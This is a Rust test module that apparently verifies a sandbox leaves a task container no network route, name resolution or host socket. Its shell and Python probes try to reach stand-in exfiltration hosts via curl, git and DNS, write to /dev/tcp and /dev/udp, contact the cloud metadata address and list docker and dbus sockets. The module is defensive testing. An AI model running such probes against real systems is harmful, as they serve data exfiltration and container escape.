//! NW of the checks, as far as there is no way out at all: loopback only, no route, no name, no socket of the host. A
//! refusal counts only if the listeners outside counted nothing.

mod egress;
mod gateway;
mod inspected;
mod publish;
mod refused;

use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use crate::probe::{answers, check_refused, check_script};
use crate::support::aegis::Aegis;
use crate::watched::Watched;

/// Listeners on every address of the host that count who comes, by TCP and by UDP on the same port.
struct Canary {
    port: u16,
    count: Arc<AtomicUsize>,
    over: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Canary {
    fn listen() -> Self {
        let tcp = TcpListener::bind("[::]:0").or_else(|_| TcpListener::bind("0.0.0.0:0")).unwrap();
        let any = tcp.local_addr().unwrap();
        let udp = UdpSocket::bind(any).unwrap();
        let (count, over) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicBool::new(false)));
        let mut canary = Self { port: any.port(), count, over, threads: Vec::new() };
        tcp.set_nonblocking(true).unwrap();
        canary.count(move || tcp.accept().is_ok());
        udp.set_read_timeout(Some(Duration::from_millis(20))).unwrap();
        canary.count(move || udp.recv(&mut [0; 1500]).is_ok());
        canary.is_alive();
        canary
    }

    fn count(&mut self, one: impl Fn() -> bool + Send + 'static) {
        let (count, over) = (Arc::clone(&self.count), Arc::clone(&self.over));
        self.threads.push(std::thread::spawn(move || {
            while !over.load(Ordering::Relaxed) {
                match one() {
                    true => drop(count.fetch_add(1, Ordering::Relaxed)),
                    false => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        }));
    }

    /// The canary must sing for the host itself, on each address, or it proves nothing; then it starts from zero.
    #[track_caller]
    fn is_alive(&self) {
        let addresses = host_addresses();
        for address in &addresses {
            TcpStream::connect_timeout(&SocketAddr::new(*address, self.port), Duration::from_secs(5))
                .unwrap();
            let any: IpAddr = if address.is_ipv4() { [0, 0, 0, 0].into() } else { [0_u16; 8].into() };
            UdpSocket::bind((any, 0)).unwrap().send_to(b"control", (*address, self.port)).unwrap();
        }
        let heard = || self.count.load(Ordering::Relaxed) >= 2 * addresses.len();
        crate::support::aegis::eventually("the canary hears the host", Duration::from_secs(5), heard);
        self.count.store(0, Ordering::Relaxed);
    }

    #[track_caller]
    fn heard_nothing(mut self) {
        std::thread::sleep(Duration::from_millis(50));
        self.over.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            thread.join().unwrap();
        }
        assert_eq!(self.count.load(Ordering::Relaxed), 0);
    }
}

/// Every address of this host that is good without a scope, loopback among them.
fn host_addresses() -> Vec<IpAddr> {
    let mut addresses: Vec<IpAddr> = vec![[127, 0, 0, 1].into()];
    let output = Command::new("hostname").arg("-I").output().map(|it| it.stdout).unwrap_or_default();
    addresses.extend(
        String::from_utf8_lossy(&output).split_whitespace().filter_map(|it| it.parse::<IpAddr>().ok()),
    );
    if TcpListener::bind("[::1]:0").is_ok() {
        addresses.push([0, 0, 0, 0, 0, 0, 0, 1].into());
    }
    addresses.dedup();
    addresses
}

/// Connects by TCP and sends by UDP to each of these from inside; both must fail, and a listener inside must hear.
#[track_caller]
fn check_unreachable(addresses: &str, canary: Canary) {
    let attempts = addresses.split_whitespace().count();
    let script = format!(
        r#"python3 - <<'PY'
import socket
inside = socket.create_server(('127.0.0.1', 0))
c = socket.create_connection(inside.getsockname(), 1); print('able')
for a in '{addresses}'.split():
    name, _, scope = a.partition('%')
    family = 10 if ':' in a else 2
    for p in ({port}, 8888, 80, 22, 2375):
        to = (name, p, 0, int(scope or 0)) if family == 10 else (name, p)
        s = socket.socket(family, 1); s.settimeout(1)
        try: s.connect(to); print('BREACH', a, p)
        except OSError as e: last = e
        u = socket.socket(family, 2); u.settimeout(1)
        try: u.sendto(b'x', to); sent = True
        except OSError as e: sent = False
        # Loopback takes a datagram that nobody is there to read.
        if sent and not name.startswith('127.') and name not in ('::1', '::ffff:127.0.0.1', '0.0.0.0', '::', 'localhost'): print('BREACH udp', a, p)
    print('tried', a, last)
PY"#,
        port = canary.port,
    );
    check_script(attempts, &script).prints("able");
    canary.heard_nothing();
}

#[test]
fn nw_01_there_is_loopback_and_no_route() {
    let ended = check_script(
        3,
        "ls /sys/class/net | grep -vx lo | sed 's/^/BREACH if /'; echo tried if $(ls /sys/class/net)
         awk 'NR>1{print \"BREACH route\",$0}' /proc/net/route; echo tried $(grep -c Iface /proc/net/route) table
         awk '$6!=\"lo\"{print \"BREACH v6\",$0}' /proc/net/if_inet6 2>/dev/null
         awk '$10!=\"lo\"{print \"BREACH v6 route\",$0}' /proc/net/ipv6_route 2>/dev/null; echo tried v6",
    );
    ended.prints("tried if lo\n").prints("tried 1 table\n");
}

#[test]
fn nw_01_the_host_sees_loopback_only_in_the_tasks_namespace() {
    let aegis = Aegis::new();
    let mut run = Watched::script(&aegis, &[], "echo ready; read -r line");
    run.wait_for("ready");
    let net = |name: &str| std::fs::read_to_string(format!("/proc/{}/net/{name}", run.command())).unwrap();
    let (devices, routes) = (net("dev"), net("route"));
    assert_eq!(
        devices.lines().skip(2).map(|it| it.trim().split(':').next().unwrap()).collect::<Vec<_>>(),
        ["lo"]
    );
    assert_eq!(routes.lines().count(), 1, "{routes}");
    assert_eq!(run.inspect("{{.HostConfig.NetworkMode}}"), "none");
    run.say("done");
    run.end().code(0);
}

#[test]
fn nw_02_no_host_gateway_outside_or_metadata_address_is_reached() {
    let mut addresses: Vec<_> =
        host_addresses().iter().filter(|it| it.is_ipv4()).map(ToString::to_string).collect();
    let usual = "192.0.2.10 10.99.0.1 172.17.0.1 172.18.0.1 169.254.169.254 127.0.0.2 0.0.0.0 255.255.255.255 224.0.0.1 100.100.100.200";
    addresses.extend(usual.split(' ').map(str::to_owned));
    check_unreachable(&addresses.join(" "), Canary::listen());
}

#[test]
fn nw_03_nor_over_ipv6_scoped_mapped_or_local() {
    let mut addresses: Vec<_> =
        host_addresses().iter().filter(|it| it.is_ipv6()).map(ToString::to_string).collect();
    let links = std::fs::read_to_string("/proc/net/if_inet6").unwrap_or_default();
    for line in links.lines().filter(|it| it.starts_with("fe80")) {
        let digits = line.split(' ').next().unwrap().as_bytes();
        let groups: Vec<_> = digits.chunks(4).map(|it| std::str::from_utf8(it).unwrap()).collect();
        addresses.extend((0..3).map(|scope| format!("{}%{scope}", groups.join(":"))));
    }
    let usual = "2001:db8::10 ::ffff:192.0.2.10 ::ffff:172.17.0.1 ::ffff:127.0.0.1 ::1 :: ff02::1%1 fd00:ec2::254 64:ff9b::7f00:1";
    addresses.extend(usual.split(' ').map(str::to_owned));
    check_unreachable(&addresses.join(" "), Canary::listen());
}

#[test]
fn nw_04_no_name_is_resolved_and_no_query_leaves() {
    let canary = Canary::listen();
    let addresses: Vec<_> = host_addresses().iter().map(ToString::to_string).collect();
    let script = format!(
        r#"
python3 - <<'PY'
import socket
for family in (0, 2, 10):
    try: print('BREACH', socket.getaddrinfo('x1.exfil.test', 80, family))
    except OSError as e: print('tried', family, e)
query = b'\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x02x2\x05exfil\x04test\0\0\x01\0\x01'
for a in '{addresses} 127.0.0.53 127.0.0.11 192.0.2.53 10.99.0.1'.split():
    for port in (53, {port}):
        u = socket.socket(10 if ':' in a else 2, 2); u.settimeout(0.2)
        try:
            u.sendto(query, (a, port)); print('BREACH', u.recv(512))
        except OSError: pass
print('tried by hand')
print('able', socket.getaddrinfo('localhost', 80)[0][4][0])
PY
getent hosts x3.exfil.test && echo BREACH getent; echo tried getent
curl -sS --max-time 3 http://x4.exfil.test/ && echo BREACH curl; echo tried curl
timeout 5 git ls-remote https://x5.exfil.test/x.git && echo BREACH git; echo tried git
cat /etc/resolv.conf"#,
        addresses = addresses.join(" "),
        port = canary.port,
    );
    let ended = check_script(7, &script);
    ended.prints("able").prints("nameserver 127.0.0.1\n");
    assert_eq!(ended.stdout.matches("nameserver").count(), 1, "{ended:#?}");
    canary.heard_nothing();
}

#[test]
fn nw_05_no_socket_of_a_runtime_or_a_bus_is_in_sight() {
    check_script(
        8,
        "find / -type s 2>/dev/null | sed 's/^/BREACH sock /'; echo tried find
         for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock \\
            /run/dbus/system_bus_socket /.aegis/control.sock /run/aegis/aegis.sock; do
            [ -e $s ] && echo BREACH $s; echo tried $s
         done
         awk 'NR > 1 && $8 ~ /docker|containerd|dbus|systemd/ { print \"BREACH\", $0 } NR > 1 && $8 ~ /^@/ { print \"BREACH\", $0 }' /proc/net/unix",
    );
}

#[test]
fn nw_06_no_other_transport_and_no_raw_packet_is_to_be_had() {
    check_refused(
        "sock_udplite sock_sctp sock_mptcp sock_ping sock_ping6 sock_raw_icmp sock_raw_icmp6 sock_dccp sock_packet",
    );
    let allowed = answers("sock_tcp sock_udp6");
    assert!(allowed.values().all(|it| it == "ok"), "{allowed:?}");
}

#[test]
fn nw_06_datagrams_reach_nobody_and_the_kernel_counts_none_that_left() {
    let canary = Canary::listen();
    let aegis = Aegis::new();
    let addresses: Vec<_> = host_addresses().iter().map(ToString::to_string).collect();
    let script = format!(
        "echo ready; for a in {}; do for i in 1 2 3; do
            (echo x >/dev/udp/$a/{}) 2>/dev/null; (echo x >/dev/tcp/$a/{}) 2>/dev/null && echo BREACH $a; done; echo tried $a; done
         echo sent; read -r line",
        addresses.join(" "),
        canary.port,
        canary.port,
    );
    let mut run = Watched::script(&aegis, &[], &script);
    run.wait_for("ready");
    run.wait_for("sent");
    let devices = std::fs::read_to_string(format!("/proc/{}/net/dev", run.command())).unwrap();
    let links: Vec<_> = devices.lines().skip(2).collect();
    assert!(links.len() == 1 && links[0].trim_start().starts_with("lo:"), "{devices}");
    run.say("done");
    run.end().code(0).no_breach();
    canary.heard_nothing();
}
